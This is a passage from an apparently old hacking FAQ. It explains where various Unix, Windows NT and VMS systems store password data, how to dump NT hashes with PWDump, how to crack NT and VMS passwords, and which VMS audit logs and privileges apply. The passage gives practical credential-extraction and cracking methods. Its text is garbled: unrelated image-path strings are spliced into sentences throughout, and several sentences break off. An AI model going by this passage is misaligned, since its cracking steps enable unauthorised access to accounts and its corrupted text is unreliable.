ConvexOS 11/etc/shadow                     *
DG/UX                    /etc/tcb/aa/user/               *
EP/IX                    /etc/shadow                     x
HP-UX                    /.secure/etc/passwd             *
IRIX 5                   /etc/shadow                     x
Linux 1.1                /etc/shadow                     *
OSF/1                    /etc/passwd[.dir|.pag]          *
SCO Unix 3.2.x           /tcb/auth/files/<first letter   *
                               of username>/<username>
SunOS4.1+c2              /etc/security/passwd.adjunct    ##username
SunOS 5.0 / Solaris 2.x  /etc/shadow
                        <optional NIS+ private secure maps>
System V Release 4.0     /etc/shadow                     x
System V Release 4.2     /etc/security/* database
Ultrix 4                 /etc/auth[.dir|.pag]            *
UNICOS                   /etc/udb                        *

[Note from jaxom: Digital UNIX v4.0x (was OSF/1, now called Tru64 UNIX)
can run in C2 (ENHANCED) security mode. When this occurs, the shadowpassword file is in:
        /tcb/auth/files/<files letter of username>/<username>
These files contain an encrypted for of the password, normally using the
bigcrypt() algorithm. If you want to crack these, then its probably
easier to write a program looping over getprpwent() and extracting the
password (prpwd->ufld.fd_encrypt), the crypt algorithm (prpwd->
ufld.fd_oldcrypt) and then use that algorithm to generate the
appropriate passwords. Check a discussion on BUGTRAQ many, many moons
ago about the appropriateness of this hashing algorithm and the
potential weakness this has. H.]


A-05. What is NIS/yp?

NIS (Network Information System) in the current name for what was onceknown as yp (Yellow Pages).  The purpose of NIS is to allow many
machines on a network to share configuration information, including
password data.  NIS is not designed to promote system security.  If
your system uses NIS you will have a very short /etc/passwd file that
includes a line that looks like this:


To view the real password file use this command "ypcat passwd"


A-06. What are those weird characters after the comma in my passwd

The characters are password aging data.  Password aging forces the
user to change passwords after a system administrator-specified period
of time.  Password aging can also force a user to keep a password for
a certain number of weeks before changing it.

] Sample entry from /etc/passwd with password aging installed:
] voyager:5fg63fhD3d,M.z8:9406:12:The Voyager:/home/voyager:/bin/bash

Note the comma in the encrypted password field.  The characters after
the comma are used by the password aging mechanism.

] Password aging characters from above example:
] M.z8

The four characters are interpreted as follows:

  1: Maximum number of weeks a password can be used without changing.
  2: Minimum number of weeks a password must be used before changing.
3&4: Last time password was changed, in number of weeks since 1970.

Three special cases should be noted:

If the first and second characters are set to '..' the user will be
forced to change his/her passwd the next time he/she logs in.  The
passwd program will then remove the passwd aging characters, and the
user will not be subjected to password aging requirements again.

If the third and fourth characters are set to '..' the user will be
forced to change his/her passwd the next time he/she logs in. Password
aging will then occur as defined by the first and second characters.If the first character (MAX) is less than the second character (MIN),
the user is not allowed to change his/her password.  Only root can
change that users password.

It should also be noted that the su command does not check the
aging data.  An account with an expired password can be su'd to
without being forced to change the password.

                        Password Aging Codes
| Character:  .  /  0  1  2  3  4  5  6  7  8  9  A  B  C  D  E  F  G  H |
|    Number:  0  1  2  3  4  5  6  7  8  9 10 11 12 13 14 15 16 17 18 19 |
| Character:  I  J  K  L  M  N  O  P  Q  R  S  T  U  V  W  X  Y  Z  a  b |
|    Number: 20 21 22 23 24 25 26 27 28 29 30 31 32 33 34 35 36 37 38 39 |
| Character:  c  d  e  f  g  h  i  j  k  l  m  n  o  p  q  r  s  t  u  v |
|    Number: 40 41 42 43 44 45 46 47 48 49 50 51 52 53 54 55 56 57 58 59 |
| Character:  w  x  y  z
|    Number: 60 61 62 63


A-07. How do I access the password file under Windows NT?

Windows NT stores encrypted password hashes in the Registry.  RDISK
stores a compressed backup copy of the the password hashes is stored in

If you can access the Registry you can use PWDump by Jeremy Allison to
view this data.  The PWDump utility is freely available at

PWDump output consists of seven colon delimited fields:

    User number
    Encrypted password
    LAN Man Password HashWindows NT Password Hash
    Full Name and Description
    Home directory

] Sample passwd entry: (Split into two lines for readability)
] voyager:1000:30FA7B24C6108C5A8B4BCCA42D5816FF:
] B3823C82B43238D31BAF98FA4035255F:The Voyager, FAQ Author::

Broken down, this password entry shows:

                  Username: voyager
               User number: 1000
        Encrypted password: 5fg63fhD3d5gh
     LAN Man Password Hash: 30FA7B24C6108C5A8B4BCCA42D5816FF
  Windows NT Password Hash: B3823C82B43238D31BAF98FA4035255F
 Full Name and Description: The Voyager, FAQ Author
           Home directory :


A-08. How do I crack Windows NT passwords?

Windows NT passwords are encrypted with aone way function.  This is
similar to the way that Unix stores passwords, except that the Microsoft
algorithm is significantly weaker.

Windows NT password can be cracked using wordlists.  This is much the
same as attacking Unix passwords with word lists, except that Microsoft
passwords are much easier to crack.

In addition, Microsoft passwords can be brute forced.  This means that
every password on the system can be retrieved.

The best cracking program for Windows NT passwords is currently
L0phtCrack by Mudge and Weld Pond.  L0phtCrack is availableat


A-09. How do I access the password file under VMS?

Under VMS, the password file is normally stored as
SYS$SYSTEM:SYSUAF.DAT.  However, unlike traditional Unixen, most users
do not have access to read the password file.

[Note from Dan Mellem: the system file is SYSUAF.DAT. Some
administrators will move SYS$SYSTEM:SYSAUF.DAT, in an attempt to
increase security through obscurity.  In this case, `DIR SYSAUF` or
`SHOW LOG SYSAUF` should point you to the new location of the file. H.]


A-10. How do I crack VMS passwords?Write a program that uses the SYS$GETUAF functions to compare the
results of encrypted words against the encrypted data in SYSUAF.DAT.

Two such programs are known to exist, CHECK_PASSWORD and

[Note from jaxom: These two can be looked at together. If you are
accessing the UAF through $GETUAI (NOT $GETUAF!), depending on what
privileges you hold determines what access you get:
        o To change ANY entry in the UAF, you need SYSPRV or BYPASS.
        o To modify entries in the UAF for those people in your group,
                you need GRPPRV.
        o If you do not have these privileges, no access is allowed.
To check an OpenVMS password, you need to extract the password and the
password salt from the UAF using $GETUAI and then create a hash based on
that salt using $HASH_PASSWORD. Compare that hash with the one from theUAF to determine if the password is the same. There is a system
dictionary that can be used to get words instead of supplying your own.
This is stored in:
It's an indexed file, so you may have to read it in through RMS. H.]


A-11. What can be logged on a VMS system?

Virtually every aspect of the VMS system can be logged for
investigation.  To determine the status of the accounting on your system
use the command SHOW ACCOUNTING.  System accounting is a facility for
recording information about the use of the machine from a system
accounting perspective (resource logging such as CPU time, printer
usage, etc.), while system auditing is done with the aim of logging
information for the purpose of security.  To enable accounting:

$ SET ACCOUNTING [/ENABLE=(Activity...)]

This enables accounting logging information to the accounting log
file SYS$MANAGER:ACCOUNTING.DAT.  This also is used to close
the current log file and open a new one with a higher version

The following activities can be logged:

        BATCH                   Termination of a batch job
        DETACHED                Termination of a detached job
        IMAGE                   Image execution
        INTERACTIVE             Interactive job termination
        LOGIN_FAILURE           Login failuresMESSAGE                 Users' messages
        NETWORK                 Network job termination
        PRINT                   Print Jobs
        PROCESS                 Any terminated process
        SUBPROCESS              Termination of a subprocess

To enable security auditing use:

        $ SET AUDIT [/ENABLE=(Activity...)]

The /ALARM qualifier is used to raise an alarm to all terminals approved
as security operators, which means that you need the SECURITY
privileges.  You can determine your security auditing configurationThe security auditor can be configured to log the following

        ACL                     Access Control List requested events
        AUTHORIZATION           Modification to the system user
                                authorization file
        BREAKIN                 Attempted Break-ins
        FILE_ACCESS             File or global section access
        INSTALL                 Occurrence of any INSTALL operations
        LOGFAILURE              Any login failures
        LOGIN                   A login attempt from varioussources
        LOGOUT                  Logouts
        MOUNT                   Mount or dismount requests

[Note from jaxom: You also need to be aware of OpenVMS Auditing. This
can log every single thing that you do. If the systems manager has this
switched on, all objects that you touch will be logged by the system.


A-12. What privileges are available on a VMS system?

ACNT            Allows you to restrain accounting messages
ALLSPOOL        Allows you to allocate spooled devices
ALTPRI          Allot Priority.  This allows you to set any priority
BUGCHK          Allows you make bug check error log entries
BYPASS          Enables you to disregardprotections
CMKRNL          Change to executive or kernel mode.  These privileges
                allow a process to execute optional routines with
                and EXECUTIVE access modes.  CMKRNL is the most
                privilege on VMS as anything protected can be accessed
                if you have this privilege.  You must have these
                privileges to gain access to the kernel data
DETACH          This privilege allow you to create detached processes of
                arbitrary UICs
[Note from jaxom: This privlege has been changed to IMPERSONATE as of
OpenVMS v7.0. H.]
DIAGNOSE        With this privilege you can diagnose devices
EXQUOTA         Allows you to exceed your disk quota
GROUP           This privilege grants you permission to  affect other
                processes in the same rank
GRPNAM          Allows you to insert group logical names into the group
                logical names table.
GRPPRV          Enables you to access system group objects through
                system protection field
LOG_IO          Allows you to issue logical input/output requests
MOUNT           May execute the mount function
NETMBX          Allows you to create network connections
OPER            Allows you to perform operator functions
PFNMAP          Allows you tomap to specific physical pages
PHY_IO          Allows you to perform physical input output requests
PRMCEB          Can create permanent common event clusters
PRMGBL          Allows you to create permanent global sections
PRMMBX          Allows you to create permanent mailboxes
PSWAPM          Allows you to change a processes swap mode
READALL         Allows you read access to everything
SECURITY        Enables you to perform security-related functions
SETPRV          Enable all privileges
SHARE           Allows you to access devices allocated to other users.
                This is used to assign system mailboxes.
SHMEM           Enables you to modify objects in shared memory
SYSGBL          Allows you to create system wide permanent globalSYSLCK          Allows you to lock system wide resources
SYSNAM          Allows you to insert in system logical names in the
                names table.
SYSPRV          If a process holds this privilege then it is the same as
                a process holding the system user identification code.
TMPMBX          Allows you to create temporary mailboxes
VOLPRO          Enables you to override volume protection
WORLD           When this is set you can affect other processes in the

[Note from Dan Mellem: ALTPRI is Alter Priority
      SETPRV lets you set any privilege.
 The FAQ's missing:
AUDIT                may direct audit to system security audit log
DOWNGRADE            may downgrade object secrecy
IMPORT               may set classification for unlabeled object
UPGRADE              may upgrade object integrity
These are all found in the high-security versions of VMS.

[Note from jaxom: This is potentially confusing. Only DOWNGRADE, IMPORT
and UPGRADE are used on SEVMS (Security Enhanced OpenVMS -- rated B2).
AUDIT is a valid permission on "standard" OpenVMS that allows the holderto audit events and append records to the system audit file. This has
two parts, the audit server database, and the audit log file. These can
both be found in SYS$COMMON:[SYSMGR]. The audit server database is
called SYS$COMMON:[SYSMGR]VMS$AUDIT_SERVER.DAT and the audit log file is

Also, these privs are set under sys$system:authorize (be sure to set def
to sys$system first).

[Note from jaxom: This is not necessary if the logical SYSUAF is
defined. To make sure it is defined correctly, check the value of
Notice that its defined in LNM$SYSTEM_TABLE. You will need SYSPRV to
change this value. If you want to change this definition, you will have
to type:
